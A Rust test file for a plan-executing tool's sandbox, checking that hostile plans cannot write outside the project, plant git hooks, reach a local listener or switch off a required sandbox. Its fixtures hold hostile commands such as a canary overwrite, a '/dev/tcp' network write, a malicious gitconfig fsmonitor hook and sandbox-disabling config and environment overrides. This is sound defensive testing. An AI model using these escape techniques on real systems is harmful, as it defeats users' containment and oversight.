//! R9: a plan cannot give itself a permission. With `-y` and without a person, hostile plans reach nothing. Without
//! `-y` they do not run.

use std::collections::BTreeMap;
use std::fs;
use std::net::TcpListener;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::PathBuf;

use planwright_testkit::project::{Project, Ran, Tree, must, tree};
use planwright_testkit::{Tier, bins, skip, strace, tier};

use crate::command::is_alive;
use crate::r04_lock::patiently;
use crate::r09_plans::{Aims, Hostile, Kind, all};
use crate::turn_scenes::{execute, execute_with, own_files, plan};

/// A project with attractive targets, and a listener outside of it.
struct Stage {
    project: Project,
    listener: TcpListener,
}

/// Files that must not change, by place.
type Guarded = BTreeMap<&'static str, Tree>;

/// The guarantees that the program reports for commands.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Promised {
    writes_outside: bool,
    guards_ours: bool,
    network: bool,
}

#[derive(Debug, Clone, Copy)]
enum Place {
    Disk,
    Memory,
}

impl Stage {
    /// On a disk, with everything that the kernel offers. In memory, without a private temporary folder, so that the
    /// sandbox has fewer means.
    fn new(place: Place) -> Self {
        let project = match place {
            Place::Disk => Project::new(),
            Place::Memory => Project::in_memory(),
        };
        project.write("greet.txt", "Hello\n");
        let outside = project.scene().join("outside");
        for folder in [outside.join("folder"), outside.join("git"), project.root().join("docs")] {
            must("a folder", fs::create_dir_all(folder));
        }
        must("a canary", fs::write(outside.join("canary"), "canary\n"));
        must("a canary", fs::write(project.home().join(".bashrc"), "# mine\n"));
        for (path, text) in [
            (".git/config", "[core]\n"),
            (".git/hooks/sample", "# none\n"),
            (".teddy/config.yaml", "# none\n"),
            (".teddy/prompts/developer.xml", "<prompt/>\n"),
            (".planwright/keep", "kept\n"),
            ("evil.sh", "#!/bin/sh\necho evil > OUTSIDE/canary\n"),
            ("evil/bash", "#!/bin/sh\necho evil > OUTSIDE/canary\n"),
            ("evil/git", "#!/bin/sh\necho evil > OUTSIDE/canary\n"),
            ("evil.so", "no library\n"),
            ("evil.gitconfig", "[core]\n\tfsmonitor = ROOT/evil.sh\n"),
            ("evil-config/planwright/config.toml", "sandbox = \"off\"\n"),
        ] {
            project.write(path, &text.replace("OUTSIDE", &outside.to_string_lossy()));
        }
        for program in ["evil.sh", "evil/bash", "evil/git"] {
            let mode = fs::Permissions::from_mode(0o755);
            must("a mode", fs::set_permissions(project.root().join(program), mode));
        }
        for (to, link) in [("../outside", "out"), (".git/hooks", "hooks"), (".git/config", "conf")] {
            must("a link", symlink(to, project.root().join(link)));
        }
        let listener = must("a listener", TcpListener::bind(("127.0.0.1", 0)));
        must("not to wait", listener.set_nonblocking(true));
        let stage = Self { project, listener };
        let aims = stage.aims();
        stage
            .project
            .write("evil.md", &plan(&execute(&aims.fill("echo evil > OUTSIDE/canary"))));
        stage
    }

    fn outside(&self) -> PathBuf {
        must("its real path", self.project.scene().join("outside").canonicalize())
    }

    fn aims(&self) -> Aims {
        let text = |path: PathBuf| path.to_string_lossy().into_owned();
        Aims {
            root: text(self.project.root()),
            outside: text(self.outside()),
            home: text(self.project.home()),
            port: must("a port", self.listener.local_addr()).port(),
            teddy: text(bins::path("teddy")),
        }
    }

    fn outside_world(&self) -> Guarded {
        Guarded::from([("outside", tree(&self.outside())), ("home", tree(&self.project.home()))])
    }

    fn ours(&self) -> Guarded {
        let root = self.project.root();
        let mut ours = Guarded::new();
        for name in [".git", ".teddy", ".planwright", ".rawko"] {
            let mut found = tree(&root.join(name));
            // Executions are recorded in `turns`, and the sandbox creates folders to guard them.
            found.retain(|path, text| !path.starts_with("turns") && text.is_some());
            if name == ".git" {
                // Files that the audit renamed aside are never run.
                let is_aside = |path: &PathBuf| path.extension().is_some_and(|end| end == "aside");
                found.retain(|path, _| (path.starts_with("hooks") || path.starts_with("config")) && !is_aside(path));
            }
            ours.insert(name, found);
        }
        ours
    }

    /// Whether a client connected.
    fn was_reached(&self) -> bool {
        self.listener.accept().is_ok()
    }

    fn execute(&self, plan: &str, more: &[&str]) -> Ran {
        self.project.write("plan.md", plan);
        self.project.teddy(&[&["execute", "plan.md"], more].concat())
    }
}

impl Promised {
    /// The guarantees in the report of this run. `None` if no command ran.
    fn of(ran: &Ran) -> Option<Self> {
        let line = ran
            .stdout
            .lines()
            .find_map(|line| line.strip_prefix("- **Sandbox:** "))?;
        Some(Self {
            writes_outside: line.contains("writes limited to the project"),
            guards_ours: line.contains("read-only: .git, .planwright, .teddy, .rawko"),
            network: line.contains("no network"),
        })
    }
}

/// The guarantees of this machine, as reported for a harmless command.
fn promised(place: Place) -> Promised {
    let ran = Stage::new(place).execute(&plan(&execute("true")), &["-y"]).done();
    let promised = Promised::of(&ran);
    promised.unwrap_or_else(|| panic!("no word about the sandbox: {ran:?}"))
}

#[test]
fn r09_hostile_plans_reach_nothing() {
    try_all(Place::Disk, 1);
}

#[test]
fn r09_hostile_plans_reach_nothing_in_a_weaker_sandbox() {
    let step = match tier() {
        Tier::Quick => 4,
        Tier::Full => 1,
    };
    try_all(Place::Memory, step);
}

fn try_all(place: Place, step: usize) {
    let promised = promised(place);
    let count = all(&Stage::new(place).aims()).len();
    assert!(count >= 50, "{count}");
    for index in (0..count).step_by(step) {
        let stage = Stage::new(place);
        let hostile = all(&stage.aims()).swap_remove(index);
        try_one(&stage, &hostile, promised);
    }
    eprintln!("{} hostile plans, {promised:?}", count.div_ceil(step));
}

fn try_one(stage: &Stage, hostile: &Hostile, promised: Promised) {
    let name = &hostile.name;
    stage.project.write("plan.md", &hostile.plan);
    let (files, ours, world) = (own_files(&stage.project), stage.ours(), stage.outside_world());
    // Without a terminal and without `-y`.
    let absent = stage.execute(&hostile.plan, &[]);
    assert!(matches!(absent.code, Some(1 | 4)), "{name}: {absent:?}");
    let same = (own_files(&stage.project), stage.ours(), stage.outside_world());
    assert_eq!(
        same,
        (files.clone(), ours.clone(), world.clone()),
        "{name}: without approval"
    );

    let ran = stage.execute(&hostile.plan, &["-y"]);
    if hostile.kind == Kind::Refused {
        assert_eq!(ran.code, Some(1), "{name}: {ran:?}");
        assert_eq!(own_files(&stage.project), files, "{name}: {ran:?}");
        assert_eq!((stage.ours(), stage.outside_world()), (ours, world), "{name}: {ran:?}");
        return;
    }
    // Where the records are not guarded, a command can cause a failure, but not silently.
    let is_reported = matches!(ran.code, Some(0 | 1)) || (ran.code == Some(5) && !promised.guards_ours);
    assert!(is_reported, "{name}: {ran:?}");
    if hostile.kind == Kind::Inside {
        assert_eq!((stage.ours(), stage.outside_world()), (ours, world), "{name}: {ran:?}");
        assert!(!stage.project.root().join("planted").exists(), "{name}: {ran:?}");
        return;
    }
    // A process of the plan had time to act and is gone now.
    let word = name.split("sleep ").nth(1).map(|rest| &rest[..6]);
    if let Some(word) = word {
        assert!(!is_alive(&format!("sleep {word}")), "{name}: it is still there");
        stage.project.write("go", "");
        patiently("the last sleep", || {
            (!is_alive(&format!("sleep\0{word}"))).then_some(())
        });
        assert!(!stage.project.root().join("late").exists(), "{name}");
    }
    if promised.writes_outside {
        assert_eq!(stage.outside_world(), world, "{name}: {ran:?}");
    }
    let ours_now = stage.ours();
    match promised.guards_ours {
        true => assert_eq!(ours_now, ours, "{name}: {ran:?}"),
        // Changes that were not prevented are reverted.
        false => assert_eq!(ours_now[".git"], ours[".git"], "{name}: {ran:?}"),
    }
    if promised.network {
        assert!(!stage.was_reached(), "{name}: {ran:?}");
    }
}

/// Control: shows that the attacks work without a sandbox.
#[test]
fn r09_without_a_sandbox_the_same_commands_reach_everything() {
    let stage = Stage::new(Place::Disk);
    let aims = stage.aims();
    for (command, is_reached) in [
        ("echo evil > OUTSIDE/canary", false),
        ("echo evil > /dev/tcp/127.0.0.1/PORT", true),
        ("echo '#!/bin/sh' > .git/hooks/pre-commit", false),
    ] {
        let ran = stage.execute(&plan(&execute(&aims.fill(command))), &["-y", "--sandbox", "off"]);
        let ran = ran.done();
        assert!(ran.stdout.contains("- **Sandbox:** off"), "{ran:?}");
        assert_eq!(stage.was_reached(), is_reached, "{command}");
    }
    assert_eq!(
        fs::read_to_string(stage.outside().join("canary")).ok().as_deref(),
        Some("evil\n")
    );
    assert!(stage.project.root().join(".git/hooks/pre-commit").exists());
}

fn set_config(stage: &Stage, text: &str) {
    let folder = stage.project.home().join(".config/planwright");
    must("a folder", fs::create_dir_all(&folder));
    must("a configuration", fs::write(folder.join("config.toml"), text));
}

#[test]
fn r09_a_project_cannot_disable_a_required_sandbox() {
    let promised = promised(Place::Disk);
    let stage = Stage::new(Place::Disk);
    set_config(&stage, "sandbox = \"required\"\n");
    // A project cannot change this setting, in any of its files.
    for path in [
        "planwright.toml",
        ".planwright.toml",
        ".planwright/config.toml",
        "planwright/config.toml",
        ".config/planwright/config.toml",
    ] {
        stage.project.write(path, "sandbox = \"off\"\n");
    }
    stage.project.write(".teddy/config.yaml", "sandbox: \"off\"\n");
    let fields = "- **env:**\n    - `SANDBOX`: \"off\"\n    - `XDG_CONFIG_HOME`: \"evil-config\"\n";
    let command = stage.aims().fill("echo evil > OUTSIDE/canary");
    let action = execute_with(fields, &command);
    let world = stage.outside_world();
    for more in [&["-y"][..], &["-y", "--sandbox", "off"], &["-y", "--sandbox", "auto"]] {
        let ran = stage.execute(&plan(&action), more);
        let guarantees = Promised::of(&ran);
        match promised.writes_outside {
            true => {
                assert_eq!(guarantees, Some(promised), "{more:?}: {ran:?}");
                assert_eq!(stage.outside_world(), world, "{more:?}: {ran:?}");
            }
            false => assert_eq!(ran.code, Some(4), "{more:?}: {ran:?}"),
        }
    }
}

/// The system calls of the sandbox. This test makes all of them fail.
const LOCKS: [&str; 6] = [
    "landlock_create_ruleset:error=ENOSYS",
    "landlock_restrict_self:error=ENOSYS",
    "unshare:error=EPERM",
    "seccomp:error=ENOSYS",
    "clone3:error=ENOSYS",
    "mount:error=EPERM",
];

fn without_locks(stage: &Stage, line: &[&str]) -> Ran {
    let mut command = stage.project.command("strace");
    command
        .args(["-f", "-qq", "-o"])
        .arg(stage.project.scene().join("trace"));
    let names: Vec<&str> = LOCKS.iter().filter_map(|lock| lock.split(':').next()).collect();
    command.arg("-e").arg(format!("trace={}", names.join(",")));
    for lock in LOCKS {
        command.arg("-e").arg(format!("inject={lock}"));
    }
    command.arg("--").arg(bins::path("teddy")).args(line);
    planwright_testkit::project::finish(&mut command)
}

#[test]
fn r09_a_missing_sandbox_is_reported_and_refused_if_required() {
    if !strace::is_usable() {
        return skip("r09_permissions", "strace is missing or may not trace");
    }
    let stage = Stage::new(Place::Disk);
    stage.project.write("plan.md", &plan(&execute("touch ran")));
    let line = ["execute", "plan.md", "-y"];
    for required in ["sandbox = \"required\"\n", "[execute]\napproved = \"sandbox\"\n"] {
        set_config(&stage, required);
        let refused = without_locks(&stage, &line);
        assert_eq!(refused.code, Some(4), "{refused:?}");
        assert!(!stage.project.root().join("ran").exists());
        assert!(refused.stderr.contains("sandbox"), "{refused:?}");
    }

    set_config(&stage, "sandbox = \"auto\"\n");
    let ran = without_locks(&stage, &line).done();
    let line = ran.stdout.lines().find(|line| line.starts_with("- **Sandbox:** "));
    assert!(line.is_some_and(|line| !line.contains("writes limited")), "{ran:?}");
    assert!(stage.project.root().join("ran").exists());
}
